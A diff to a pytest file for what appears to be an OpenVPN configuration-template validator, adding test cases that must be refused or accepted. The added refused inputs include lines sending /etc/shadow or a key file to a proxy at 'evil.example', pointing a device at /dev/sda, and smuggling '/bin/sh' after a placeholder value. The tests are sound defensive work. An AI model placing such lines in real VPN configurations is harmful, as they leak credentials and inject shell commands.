@@ -66,6 +66,16 @@ HOSTILE = {
     "file above": "key ../other.key",
     "windows file": "cert C:\\\\Users\\\\x.crt",
     "every hook": "route-up x",
+    "file to a proxy": "http-proxy evil.example 8080 /etc/shadow basic",
+    "file of the archive to a proxy": "http-proxy evil.example 8080 change_me.key basic",
+    "file to a proxy of a connection": "<connection>\nremote x 1194\nsocks-proxy evil.example 1080 key\n</connection>",
+    "file as a password": "auth-user-pass change_me.key",
+    "device of the machine": "dev-node /dev/sda",
+    "line that grows past its end": f"# {'change_me ' * 9}" + "x" * 120 + "up /bin/sh",
+    "user as a directive": "change_me /bin/sh",
+    "user as a directive in quotes": '"change_me" /bin/sh',
+    "user as a later directive": "setenv opt change_me /bin/sh",
+    "user as a block": "<change_me>\nx\n</change_me>",
     "open connection": "<connection>\nremote x 1194",
 }
 
@@ -78,8 +88,9 @@ def test_profile_that_could_do_more_than_connect_is_refused(line: str) -> None:
 
 @pytest.mark.parametrize(
     "line",
-    ['push "setenv opt up /bin/sh"', "up x", "client-connect x", "auth-user-pass-verify x via-env", "learn-address x"],
-)
+    ['push "setenv opt up /bin/sh"', "up x", "client-connect x", "auth-user-pass-verify x via-env", "learn-address x",
+     "client-config-dir /tmp", "port-share 127.0.0.1 443 /etc/cron.d"],
+)  # fmt: skip
 def test_text_about_the_server_that_could_do_more_is_refused(line: str) -> None:
     with pytest.raises(Refused, match="Line"):
         check_template("server.conf", DEFAULTS["server.conf"] + line + "\n")
@@ -136,6 +147,10 @@ def test_texts_of_the_owners_process_are_taken() -> None:
         'verify-x509-name "server" name',
         "route 10.0.0.0 255.0.0.0",
         'setenv FRIENDLY_NAME "Example VPN"',
+        "http-proxy proxy.example 8080",
+        "http-proxy proxy.example 8080 auto basic",
+        "socks-proxy proxy.example 1080",
+        "auth-user-pass",
     ],
     ids=ascii,
 )
